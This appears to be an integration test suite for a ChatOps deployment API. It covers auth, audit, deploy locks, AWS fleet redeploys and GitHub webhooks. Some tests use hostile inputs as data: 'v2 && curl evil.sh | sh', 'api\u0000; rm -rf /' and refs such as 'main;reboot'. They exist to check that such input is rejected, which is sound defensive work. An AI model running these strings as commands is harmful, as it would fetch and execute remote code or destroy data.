import { join } from 'node:path';
import { Writable } from 'node:stream';
import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import request from 'supertest';
import { loadCatalog } from '@chatops/config';
import type { AuditEvent } from '@chatops/domain';
import { createLogger, createMetricsRegistry } from '@chatops/observability';
import { createRepositories, DatabaseHandle, openDatabase } from '@chatops/persistence';
import { promtoolCheckMetrics } from '@chatops/testing';
import { OctokitGithubRepository, signWebhookBody } from '@chatops/github';
import { GithubSimulator, shaOf } from '@chatops/github-sim';
import { AwsFleetRepository } from '@chatops/aws-fleet';
import { AwsSimulator } from '@chatops/aws-sim';
import { ApiConfig, loadApiConfig } from '../src/config';
import { createApiApp } from '../src/app/create-app';
import { buildClients } from '../src/app/clients';
import { buildAlertingMachinery } from '../src/app/alerts/alerting-machinery';
import { buildWorkflowMachinery } from '../src/app/deployments/workflow-machinery';

const TOKEN = 'service-token-'.padEnd(40, 'x');
const auth = { Authorization: `Bearer ${TOKEN}` };
const WEBHOOK_SECRET = 'github-webhook-secret-'.padEnd(40, 'g');

const GITHUB_TOKEN = 'ghs_api_test_token_00000000000000000000';
let github: GithubSimulator | null = null;

function githubRepositoryFor(sim: GithubSimulator): OctokitGithubRepository {
  return new OctokitGithubRepository({
    owner: 'acme',
    repo: 'chatops',
    auth: { kind: 'token', token: GITHUB_TOKEN },
    baseUrl: sim.baseUrl,
    writeIntervalMs: 0,
    retries: 0,
  });
}

beforeAll(async () => {
  github = await new GithubSimulator({
    owner: 'acme',
    repo: 'chatops',
    token: GITHUB_TOKEN,
    timing: { queuedMs: 50, stepMs: 20 },
  }).start();
});
afterAll(() => github?.stop());

describe('API over HTTP', () => {
  let app: NestFastifyApplication;
  let database: DatabaseHandle;
  let logs: string[];

  let config: ApiConfig;

  beforeEach(async () => {
    logs = [];
    config = loadApiConfig({
      API_SERVICE_TOKEN: TOKEN,
      GITHUB_WEBHOOK_SECRET: WEBHOOK_SECRET,
      BODY_LIMIT_BYTES: '2048',
      LOG_LEVEL: 'info',
    });
    database = await openDatabase('sqlite::memory:');
    const destination = new Writable({
      write(chunk, _enc, done) {
        logs.push(chunk.toString());
        done();
      },
    });
    logger = createLogger({ name: 'api', level: 'info', secrets: [TOKEN], destination });
    app = await appWith(null);
  });

  let logger: ReturnType<typeof createLogger>;

  /** The app over the current database, with the given fleet (null: AWS_REGION unset). */
  async function appWith(fleet: AwsFleetRepository | null): Promise<NestFastifyApplication> {
    const catalog = loadCatalog(join(__dirname, '../../../chatops.config.yaml'));
    const repositories = createRepositories(database);
    const registry = createMetricsRegistry('api');
    const clients = {
      ...buildClients(config, catalog, logger),
      github: github ? githubRepositoryFor(github) : null,
      fleet,
    };
    const parts = { config, catalog, repositories, registry, logger, clients };
    const built = await createApiApp({
      ...parts,
      database,
      workflows: buildWorkflowMachinery(parts),
      alerting: buildAlertingMachinery(parts),
    });
    await built.init();
    await built.getHttpAdapter().getInstance().ready();
    return built;
  }

  afterEach(async () => {
    await app.close();
  });

  const http = () => request(app.getHttpServer());

  describe('health', () => {
    it('answers liveness without checking dependencies', async () => {
      const res = await http().get('/health/live').expect(200);
      const process = { status: 'up', uptimeSeconds: expect.any(Number) };
      expect(res.body).toEqual({
        status: 'ok',
        info: { process },
        error: {},
        details: { process },
      });
      expect(res.headers['cache-control']).toMatch(/no-cache/);
    });

    it('reports database, memory and disk when ready', async () => {
      const res = await http().get('/health/ready').expect(200);
      expect(res.body.status).toBe('ok');
      expect(res.body.details).toEqual({
        database: expect.objectContaining({ status: 'up', dialect: 'sqlite' }),
        memory_heap: { status: 'up' },
        disk: { status: 'up' },
      });
    });

    it('is not ready, with the reason, when the database is gone', async () => {
      await database.close();
      const res = await http().get('/health/ready').expect(503);
      expect(res.body.status).toBe('error');
      expect(res.body.error.database).toMatchObject({
        status: 'down',
        message: expect.any(String),
      });
    });

    it('is not ready when the heap is over its limit or the disk is too full', async () => {
      config.HEALTH_HEAP_LIMIT_MB = 16;
      config.HEALTH_DISK_THRESHOLD = 0.000001;
      const res = await http().get('/health/ready').expect(503);
      expect(res.body.error).toEqual({
        memory_heap: expect.objectContaining({ status: 'down' }),
        disk: expect.objectContaining({ status: 'down' }),
      });
      expect(res.body.info.database.status).toBe('up');
    });
  });

  describe('errors', () => {
    it('answers an unknown route with a JSON 404 carrying the request id', async () => {
      const res = await http().get('/no/such/route').set('x-request-id', 'req-123').expect(404);
      expect(res.headers['x-request-id']).toBe('req-123');
      expect(res.body).toEqual({
        statusCode: 404,
        error: 'Not Found',
        message: 'Cannot GET /no/such/route',
        requestId: 'req-123',
      });
    });

    it('replaces an unsafe incoming request id', async () => {
      const res = await http().get('/health/live').set('x-request-id', 'bad id; drop table');
      expect(res.headers['x-request-id']).toMatch(/^[0-9a-f-]{36}$/);
    });

    it('answers an oversized body with 413 and the limit', async () => {
      const res = await http()
        .post('/v1/audit')
        .set(auth)
        .set('content-type', 'application/json')
        .send(JSON.stringify({ detail: 'x'.repeat(4096) }))
        .expect(413);
      expect(res.body).toMatchObject({
        statusCode: 413,
        message: 'Request body exceeds the limit of 2048 bytes',
      });
      expect(res.body.requestId).toEqual(expect.any(String));
    });

    it('answers malformed JSON with 400 and the reason', async () => {
      const res = await http()
        .post('/v1/audit')
        .set(auth)
        .set('content-type', 'application/json')
        .send('{"actor": ')
        .expect(400);
      expect(res.body.message).toMatch(/^Malformed JSON: /);
    });
  });

  describe('service token', () => {
    it('rejects a missing token with 401 and WWW-Authenticate', async () => {
      const res = await http().get('/v1/ping').expect(401);
      expect(res.headers['www-authenticate']).toBe('Bearer');
      expect(res.body.message).toBe('Missing bearer token (Authorization: Bearer <service token>)');
    });

    it('rejects a wrong token', async () => {
      const res = await http().get('/v1/ping').set('Authorization', 'Bearer nope').expect(401);
      expect(res.body.message).toBe('Invalid service token');
    });

    it('accepts the right token', async () => {
      const res = await http().get('/v1/ping').set(auth).expect(200);
      expect(res.body).toEqual({ pong: true, time: expect.any(String) });
    });
  });

  describe('audit', () => {
    const event = {
      actor: { id: '111111111111111111', name: 'alice' },
      action: 'deploy',
      outcome: 'denied',
      service: 'api',
      environment: 'prod',
      source: 'discord:guild/1/channel/2',
      detail: { missing: 'deploy' },
    };

    it('records an event and lists it', async () => {
      const created = await http().post('/v1/audit').set(auth).send(event).expect(201);
      expect(created.body).toMatchObject({
        ...event,
        id: expect.any(Number),
        occurredAt: expect.any(Number),
      });
      const listed = await http().get('/v1/audit?environment=prod&limit=5').set(auth).expect(200);
      expect(listed.body.events).toEqual([created.body]);
    });

    it('refuses an outcome the bot cannot have decided: only its own refusals are its to record', async () => {
      const res = await http()
        .post('/v1/audit')
        .set(auth)
        .send({ ...event, outcome: 'succeeded' })
        .expect(400);
      expect(res.body).toMatchObject({
        reason: 'invalid',
        problems: [
          'outcome: a client records only what it refused (rejected or denied), not succeeded',
        ],
      });
      const [latest] = (await http().get('/v1/audit?limit=1').set(auth).expect(200)).body.events;
      expect(latest).toMatchObject({ action: 'audit', outcome: 'rejected' });
    });

    it('lists every problem of an invalid event, stores none of it and records the refusal', async () => {
      const res = await http()
        .post('/v1/audit')
        .set(auth)
        .send({
          ...event,
          action: 'Deploy Now',
          outcome: 'maybe',
          environment: 'prod;rm',
          extra: 1,
        })
        .expect(400);
      const problems = [
        'action: must be a lowercase action name',
        expect.stringMatching(/^outcome: Invalid option/),
        'environment: must be a catalog name',
        'body: Unrecognized key: "extra"',
      ];
      expect(res.body.message).toMatch(
        /^Invalid request body: action: must be a lowercase action name; outcome: Invalid option.*; environment: must be a catalog name; body: Unrecognized key: "extra"$/,
      );
      expect(res.body.problems).toEqual(problems);
      const listed = await http().get('/v1/audit').set(auth).expect(200);
      expect(listed.body.events).toEqual([
        expect.objectContaining({
          actor: event.actor,
          action: 'audit',
          outcome: 'rejected',
          environment: null,
          detail: {
            route: 'POST /v1/audit',
            problems,
            input: expect.objectContaining({ action: 'Deploy Now', environment: 'prod;rm' }),
          },
        }),
      ]);
    });

    it('rejects a bad query with 400', async () => {
      const res = await http().get('/v1/audit?limit=100000').set(auth).expect(400);
      expect(res.body.problems).toEqual(['limit: Too big: expected number to be <=500']);
    });
  });

  describe('delivery metrics', () => {
    it('reads the figures of the record over a window, overall and per service and environment', async () => {
      const res = await http().get('/v1/delivery/metrics?service=api&days=7').set(auth).expect(200);
      expect(res.body).toMatchObject({
        days: 7,
        service: 'api',
        environment: null,
        metrics: { changes: 0, changeFailureRate: null, leadTimeMs: null },
        breakdown: [],
      });
      expect(res.body.to - res.body.from).toBe(7 * 24 * 60 * 60_000);
    });

    it('answers a bad window with 400 and each problem, and a name the catalog lacks with the names it has', async () => {
      const bad = await http()
        .get('/v1/delivery/metrics?days=91&service=x%3By&extra=1')
        .set(auth)
        .expect(400);
      expect(bad.body.problems).toEqual([
        'service: must be a catalog name',
        'days: Too big: expected number to be <=90',
        'query: Unrecognized key: "extra"',
      ]);
      const unknown = await http().get('/v1/delivery/metrics?service=nope').set(auth).expect(400);
      expect(unknown.body.message).toBe('unknown service `nope` (known: api, bot)');
      await http().get('/v1/delivery/metrics').expect(401);
    });
  });

  describe('deployments', () => {
    const requester = {
      actor: { id: '100', name: 'alice' },
      roles: { ids: [], names: ['deployer'] },
      source: 'discord:test',
    };
    let seq = 0;
    const deploy = (fields: Record<string, unknown> = {}) =>
      http()
        .post('/v1/deployments')
        .set(auth)
        .send({
          requestId: `api-req-${Date.now()}-${++seq}`,
          kind: 'deploy',
          service: 'api',
          environment: 'staging',
          ref: 'main',
          channelId: '444',
          ...requester,
          ...fields,
        });

    it('dispatches a deploy and tells a second one who holds the environment', async () => {
      const first = await deploy().expect(201);
      expect(first.body).toMatchObject({
        outcome: 'dispatched',
        deployment: { status: 'dispatched', runId: expect.stringMatching(/^\d+$/) },
      });
      const second = await deploy({ actor: { id: '200', name: 'bob' } }).expect(409);
      expect(second.body.message).toMatch(/^api on staging is locked by alice's deploy since/);
      const listed = await http().get('/v1/deployments?service=api&limit=5').set(auth).expect(200);
      expect(listed.body.deployments[0]).toMatchObject({ id: first.body.deployment.id });
      const cancelled = await http()
        .post(`/v1/deployments/${first.body.deployment.id}/cancel`)
        .set(auth)
        .send(requester)
        .expect(200);
      expect(cancelled.body.outcome).toBe('cancelling');
    });

    it('asks to confirm a ref older than what runs (409 with the confirmation), then deploys it once', async () => {
      // What runs on staging: main, deployed before.
      const repositories = createRepositories(database);
      const { deployment: ran } = await repositories.deployments.create({
        requestId: 'ran-before',
        kind: 'deploy',
        service: 'api',
        environment: 'staging',
        ref: 'main',
        status: 'queued',
        requestedBy: { id: '300', name: 'carol' },
      });
      await repositories.deployments.transition(ran.id, 'dispatched', { runId: '1', runUrl: null });
      await repositories.deployments.transition(ran.id, 'succeeded', { imageTag: shaOf('main') });
      const before = github!.countRequests(/dispatches/);
      const asked = await deploy({ ref: 'v1.3.2' }).expect(409);
      expect(asked.body).toMatchObject({
        statusCode: 409,
        reason: 'needs-confirmation',
        message: `\`v1.3.2\` is older than what runs on staging (\`${shaOf('main')}\`): confirm to go back`,
        details: {
          confirmation: {
            id: expect.stringMatching(/^[0-9a-f-]{36}$/),
            kind: 'deploy',
            target: 'v1.3.2',
            change: { compare: { status: 'behind', behindBy: 6 } },
          },
        },
      });
      expect(github!.countRequests(/dispatches/)).toBe(before);
      const confirmationId = asked.body.details.confirmation.id as string;
      const confirmed = await deploy({ ref: null, confirmationId }).expect(201);
      expect(confirmed.body.deployment).toMatchObject({ ref: 'v1.3.2', status: 'dispatched' });
      await deploy({ ref: null, confirmationId }).expect(409);
    });

    it('answers a hostile ref with 400 and the reason, dispatching nothing', async () => {
      const before = github!.countRequests(/dispatches/);
      const res = await deploy({ ref: 'main;reboot' }).expect(400);
      expect(res.body).toMatchObject({
        statusCode: 400,
        message:
          'invalid ref: the ref contains ";"; only ASCII letters, digits and . _ / - are allowed',
        problems: [
          'invalid ref: the ref contains ";"; only ASCII letters, digits and . _ / - are allowed',
        ],
      });
      expect(github!.countRequests(/dispatches/)).toBe(before);
    });

    it('answers 403 without the permission, 404 for an unknown deployment, 400 for a bad body', async () => {
      await deploy({ roles: { ids: [] } }).expect(403);
      await http()
        .post('/v1/deployments/0f8fad5b-d9cb-469f-a165-70867728950e/approve')
        .set(auth)
        .send({ ...requester, roles: { ids: [], names: ['sre'] } })
        .expect(404);
      const bad = await http().post('/v1/deployments').set(auth).send({ kind: 'nuke' }).expect(400);
      expect(bad.body.problems).toEqual(
        expect.arrayContaining([
          expect.stringMatching(/^kind: /),
          expect.stringMatching(/^requestId: /),
        ]),
      );
    });

    it('refuses control characters (NUL among them) in every text field with 400 naming it, before any call', async () => {
      const before = github!.countRequests(/./);
      const hostile = 'api\u0000; rm -rf /';
      const fields: [string, Record<string, unknown>][] = [
        ['service', { service: hostile }],
        ['environment', { environment: 'staging\u0000' }],
        ['ref', { ref: 'main\u0007' }],
        ['actor.name', { actor: { id: '1', name: 'alice\u0000' } }],
        ['actor.id', { actor: { id: '1\n2', name: 'alice' } }],
        ['roles.names.0', { roles: { ids: [], names: ['sre\u0000'] } }],
        ['source', { source: 'discord:\u001b[31m' }],
      ];
      for (const [field, override] of fields) {
        const res = await deploy(override).expect(400);
        expect(res.body.problems).toContain(`${field}: must not contain control characters`);
        expect(res.body.message).toContain(`${field}: must not contain control characters`);
      }
      expect(github!.countRequests(/./)).toBe(before);
      // Each refusal is audited: as the deploy it asked for, by the actor it named, the hostile
      // value kept visible (escaped) and the problem recorded.
      const refusals = (await http().get('/v1/audit?limit=20').set(auth).expect(200)).body
        .events as AuditEvent[];
      expect(refusals).toHaveLength(fields.length);
      for (const event of refusals) {
        expect(event).toMatchObject({ action: 'deploy', outcome: 'rejected' });
        expect(event.detail['route']).toBe('POST /v1/deployments');
        expect((event.detail['problems'] as string[])[0]).toMatch(/must not contain control/);
      }
      const byService = refusals.find((e) =>
        e.detail['problems']?.toString().startsWith('service'),
      );
      expect(byService).toMatchObject({
        actor: requester.actor,
        service: null,
        detail: { input: { service: 'api\\u0000; rm -rf /' } },
      });
      const byActor = refusals.find((e) =>
        e.detail['problems']?.toString().startsWith('actor.name'),
      );
      expect(byActor?.actor).toEqual({ id: '1', name: 'alice\\u0000' });
      // A 1,200-character ref is refused and kept cut, never whole.
      const long = await deploy({ ref: 'r'.repeat(1200) }).expect(400);
      expect(long.body.problems).toEqual([
        'ref: Too big: expected string to have <=1000 characters',
      ]);
      const [cut] = (await http().get('/v1/audit?limit=1').set(auth).expect(200)).body
        .events as AuditEvent[];
      expect(String(cut?.detail['input'] && (cut.detail['input'] as { ref: string }).ref)).toMatch(
        /^r+… \(1200 characters\)$/,
      );
      expect(JSON.stringify(cut).length).toBeLessThan(1200);
      const audit = await http()
        .post('/v1/audit')
        .set(auth)
        .send({ actor: { id: '1', name: 'al\u0000ice' }, action: 'deploy', outcome: 'denied' })
        .expect(400);
      expect(audit.body.problems).toEqual(['actor.name: must not contain control characters']);
    });

    it('holds deploys of a locked service for everyone but the holder, until it is released', async () => {
      const lock = await http()
        .post('/v1/locks')
        .set(auth)
        .send({ service: 'api', environment: 'staging', reason: 'investigating', ...requester })
        .expect(201);
      expect(lock.body).toMatchObject({
        holder: requester.actor,
        reason: 'investigating',
        expiresAt: null,
      });
      const held = await deploy({ actor: { id: '200', name: 'bob' } }).expect(409);
      expect(held.body.message).toMatch(
        /^api on staging is locked by alice since <t:\d+:R>: investigating$/,
      );
      const listed = await http().get('/v1/locks?environment=staging').set(auth).expect(200);
      expect(listed.body.locks).toHaveLength(1);
      await http()
        .post('/v1/locks/release')
        .set(auth)
        .send({
          service: 'api',
          environment: 'staging',
          reason: 'x',
          actor: { id: '200', name: 'bob' },
          roles: { ids: [], names: ['deployer'] },
        })
        .expect(403);
      const bad = await http()
        .post('/v1/locks')
        .set(auth)
        .send({
          service: 'api',
          environment: 'staging',
          reason: '',
          durationMinutes: 0,
          ...requester,
        })
        .expect(400);
      expect(bad.body.problems).toEqual([
        'reason: Too small: expected string to have >=1 characters',
        'durationMinutes: Too small: expected number to be >=1',
      ]);
      await http()
        .post('/v1/locks/release')
        .set(auth)
        .send({ service: 'api', environment: 'staging', reason: 'done', ...requester })
        .expect(200);
      await deploy({ actor: { id: '200', name: 'bob' } }).expect(201);
    });

    it('answers a list of an unknown service with 400 and the services there are', async () => {
      const res = await http().get('/v1/deployments?service=nope').set(auth).expect(400);
      expect(res.body).toMatchObject({
        message: 'unknown service `nope` (services: api, bot)',
        problems: ['unknown service `nope` (services: api, bot)'],
      });
      await http().get('/v1/deployments?service=api').set(auth).expect(200);
    });

    it('suggests refs for autocomplete', async () => {
      const res = await http().get('/v1/github/refs?q=rel').set(auth).expect(200);
      expect(res.body.refs).toEqual([{ name: 'release/1.4', kind: 'branch' }]);
    });
  });

  describe('fleet: /redeploy, /rollback, /status', () => {
    let aws: AwsSimulator;
    const sre = {
      actor: { id: '300', name: 'carol' },
      roles: { ids: [], names: ['sre'] },
      source: 'discord:test',
    };
    let seq = 0;

    beforeEach(async () => {
      aws = await new AwsSimulator({
        project: 'chatops',
        environments: ['staging', 'prod'],
        services: ['api', 'bot'],
        initialVersion: 'v1',
        images: ['v2'],
        timing: { deliverMs: 5, redeployMs: 20 },
      }).start();
      // Closing the app closes its database: the fleet-enabled app gets a fresh one.
      await app.close();
      database = await openDatabase('sqlite::memory:');
      app = await appWith(
        AwsFleetRepository.create({
          region: aws.region,
          endpoint: aws.endpoint,
          credentials: { accessKeyId: aws.accessKeyId, secretAccessKey: 'test' },
        }),
      );
    });
    afterEach(() => aws.stop());

    const redeploy = (fields: Record<string, unknown> = {}) =>
      http()
        .post('/v1/deployments')
        .set(auth)
        .send({
          requestId: `fleet-req-${++seq}`,
          kind: 'redeploy',
          service: 'api',
          environment: 'staging',
          ...sre,
          ...fields,
        });

    it('redeploys through SSM and shows it in /status', async () => {
      const res = await redeploy({ version: 'v2' }).expect(201);
      expect(res.body).toMatchObject({
        outcome: 'dispatched',
        deployment: { kind: 'redeploy', ref: 'v2', status: 'dispatched' },
      });
      const status = await http().get('/v1/fleet/status?environment=staging').set(auth).expect(200);
      expect(status.body.environments[0]).toMatchObject({
        name: 'staging',
        error: null,
        hosts: [
          { state: 'running', ssmPing: 'Online' },
          { state: 'running', ssmPing: 'Online' },
        ],
        services: [{ name: 'api', desired: { value: 'v2', version: 2 } }, { name: 'bot' }],
      });
      const preview = await http()
        .get('/v1/fleet/rollback?service=api&environment=staging')
        .set(auth)
        .expect(200);
      expect(preview.body).toMatchObject({ current: { value: 'v2' }, target: { value: 'v1' } });
      const versions = await http()
        .get('/v1/fleet/versions?service=api&environment=staging')
        .set(auth)
        .expect(200);
      expect(versions.body.versions.map((v: { value: string }) => v.value)).toEqual(['v2', 'v1']);
    });

    it('answers a hostile version with 400 and the reason, sending nothing to AWS', async () => {
      const res = await redeploy({ version: 'v2 && curl evil.sh | sh' }).expect(400);
      expect(res.body.problems).toEqual([
        'invalid version: the version must be an image tag (letters, digits, _ . -, not starting with . or -) or a sha256: digest',
      ]);
      const long = await redeploy({ version: 'v'.repeat(200) }).expect(400);
      expect(long.body.message).toBe(
        'invalid version: the version is 200 characters long; at most 128 are allowed',
      );
      expect(aws.calls).toEqual([]);
    });

    it('answers bad queries with 400, a rollback with nothing before with 422', async () => {
      const bad = await http().get('/v1/fleet/status?environment=Bad;Env').set(auth).expect(400);
      expect(bad.body.problems).toEqual(['environment: must be a catalog name']);
      await http().get('/v1/fleet/status?environment=moon').set(auth).expect(400);
      await http().get('/v1/fleet/versions?service=api').set(auth).expect(400);
      const none = await http()
        .get('/v1/fleet/rollback?service=api&environment=staging')
        .set(auth)
        .expect(422);
      expect(none.body.message).toBe('api on staging has no earlier good version to roll back to');
      const hostile = await http()
        .post('/v1/fleet/rollback/confirmations')
        .set(auth)
        .send({
          service: 'api',
          environment: 'staging',
          to: 'v1;reboot',
          actor: { id: '1', name: 'alice' },
          roles: { ids: [], names: ['sre'] },
        })
        .expect(400);
      expect(hostile.body.problems).toEqual([
        'to: the version must be an image tag (letters, digits, _ . -, not starting with . or -) or a sha256: digest',
      ]);
      // A client cannot aim a rollback itself: the target comes from a confirmation only.
      const aimed = await http()
        .post('/v1/deployments')
        .set(auth)
        .send({
          requestId: 'aimed-1',
          kind: 'rollback',
          service: 'api',
          environment: 'staging',
          rollbackTo: 'v1',
          actor: { id: '1', name: 'alice' },
          roles: { ids: [], names: ['sre'] },
        })
        .expect(400);
      expect(aimed.body.problems).toEqual([expect.stringMatching(/rollbackTo/)]);
      expect(aws.calls.filter((c) => c.action === 'SSM.SendCommand')).toEqual([]);
    });
  });

  it('answers 503 for the fleet when AWS_REGION is not set', async () => {
    const res = await http().get('/v1/fleet/status').set(auth).expect(503);
    expect(res.body.message).toMatch(/AWS fleet is not configured: set AWS_REGION/);
    const redeploy = await http()
      .post('/v1/deployments')
      .set(auth)
      .send({
        requestId: 'fleet-none-1',
        kind: 'redeploy',
        service: 'api',
        environment: 'staging',
        actor: { id: '1', name: 'a' },
        roles: { ids: [], names: ['sre'] },
      })
      .expect(503);
    expect(redeploy.body.message).toMatch(/AWS fleet is not configured/);
  });

  describe('GitHub webhook', () => {
    const runEvent = (conclusion: string) =>
      JSON.stringify({
        action: 'completed',
        workflow_run: {
          id: 42,
          status: 'completed',
          conclusion,
          html_url: 'https://github.com/acme/chatops/actions/runs/42',
        },
        repository: { full_name: 'acme/chatops' },
      });
    const deliver = (
      body: string,
      delivery: string,
      event = 'workflow_run',
      signature = signWebhookBody(WEBHOOK_SECRET, body),
    ) =>
      http()
        .post('/v1/github/webhook')
        .set('content-type', 'application/json')
        .set('x-github-event', event)
        .set('x-github-delivery', delivery)
        .set('x-hub-signature-256', signature)
        .send(body);

    async function dispatchedDeployment() {
      const repositories = createRepositories(database);
      const { deployment } = await repositories.deployments.create({
        requestId: 'req-1',
        kind: 'deploy',
        service: 'api',
        environment: 'staging',
        ref: 'main',
        status: 'queued',
        requestedBy: { id: '1', name: 'alice' },
      });
      await repositories.locks.acquire({
        environment: 'staging',
        service: 'api',
        holderId: deployment.requestId,
        holderName: 'alice',
        reason: 'deploy',
        ttlMs: 60_000,
      });
      await repositories.deployments.transition(deployment.id, 'dispatched', { runId: '42' });
      return repositories;
    }

    it('refuses a missing or wrong signature with 401', async () => {
      const body = runEvent('success');
      const wrong = await deliver(
        body,
        'd-1',
        'workflow_run',
        signWebhookBody('not-the-secret', body),
      ).expect(401);
      expect(wrong.body.message).toBe('Missing or invalid X-Hub-Signature-256');
      await http()
        .post('/v1/github/webhook')
        .set('content-type', 'application/json')
        .send(body)
        .expect(401);
    });

    it('completes the deployment of a finished run once, however often it is delivered', async () => {
      const repositories = await dispatchedDeployment();
      const first = await deliver(runEvent('success'), 'd-2').expect(202);
      expect(first.body).toEqual({ delivery: 'd-2', status: 'deployment succeeded' });
      expect(await repositories.locks.get({ environment: 'staging', service: 'api' })).toBeNull();
      expect((await deliver(runEvent('success'), 'd-2').expect(202)).body.status).toBe('duplicate');
      expect((await deliver(runEvent('failure'), 'd-3').expect(202)).body.status).toBe(
        'ignored (out-of-order)',
      );
      expect(await repositories.audit.list()).toHaveLength(1);
    });

    it('answers ping, ignores unused events, and lists problems in a malformed payload', async () => {
      expect(
        (await deliver('{"zen":"Keep it logically awesome."}', 'd-4', 'ping').expect(202)).body
          .status,
      ).toBe('pong');
      expect((await deliver('{}', 'd-5', 'push').expect(202)).body.status).toBe(
        'ignored (event not used)',
      );
      const bad = await deliver('{"action":"completed"}', 'd-6').expect(400);
      expect(bad.body.problems).toEqual(
        expect.arrayContaining([expect.stringMatching(/^workflow_run: /)]),
      );
      // A rejected delivery is not recorded: GitHub's redelivery of a fixed payload is processed.
      expect((await deliver(runEvent('success'), 'd-6').expect(202)).body.status).toBe(
        'ignored (unknown-run)',
      );
    });

    it('answers 503 while no webhook secret is configured', async () => {
      config.GITHUB_WEBHOOK_SECRET = undefined;
      const res = await deliver(runEvent('success'), 'd-7').expect(503);
      expect(res.body.message).toBe(
        'GitHub webhooks are not configured (set GITHUB_WEBHOOK_SECRET)',
      );
    });
  });

  describe('metrics and logs', () => {
    it('exposes process metrics and request durations by route pattern and status', async () => {
      await http().get('/health/live').expect(200);
      await http().get('/v1/audit?limit=1').set(auth).expect(200);
      await http().get('/definitely/not/here').expect(404);
      const res = await http().get('/metrics').expect(200);
      expect(res.headers['content-type']).toMatch(/^text\/plain;.*version=0\.0\.4/);
      expect(res.text).toContain('process_resident_memory_bytes');
      expect(res.text).toMatch(
        /http_request_duration_seconds_count\{app="api",method="GET",route="\/health\/live",status_code="200"\} 1/,
      );
      expect(res.text).toMatch(
        /http_request_duration_seconds_count\{app="api",method="GET",route="\/v1\/audit",status_code="200"\} 1/,
      );
      expect(res.text).toMatch(
        /http_request_duration_seconds_count\{app="api",method="GET",route="unmatched",status_code="404"\} 1/,
      );
    });

    it('passes promtool check metrics', async () => {
      await http().get('/health/live').expect(200);
      const res = await http().get('/metrics').expect(200);
      const output = promtoolCheckMetrics(res.text);
      expect(output).toBe('');
    });

    it('logs requests as JSON with the request id and without the service token', async () => {
      await http().get('/v1/audit').set(auth).set('x-request-id', 'trace-7').expect(200);
      await http().get('/v1/ping').set('Authorization', `Bearer ${TOKEN}-wrong`).expect(401);
      const lines = logs
        .join('')
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as { requestId?: string; msg?: string });
      const completed = lines.find(
        (l) => l.requestId === 'trace-7' && l.msg === 'request completed',
      );
      expect(completed).toMatchObject({
        level: 'info',
        msg: 'request completed',
        req: { method: 'GET', url: '/v1/audit' },
        res: { statusCode: 200 },
        responseTimeMs: expect.any(Number),
      });
      expect(lines).toContainEqual(
        expect.objectContaining({
          level: 'warn',
          msg: 'request completed',
          res: { statusCode: 401 },
        }),
      );
      expect(logs.join('')).not.toContain(TOKEN);
    });
  });
});
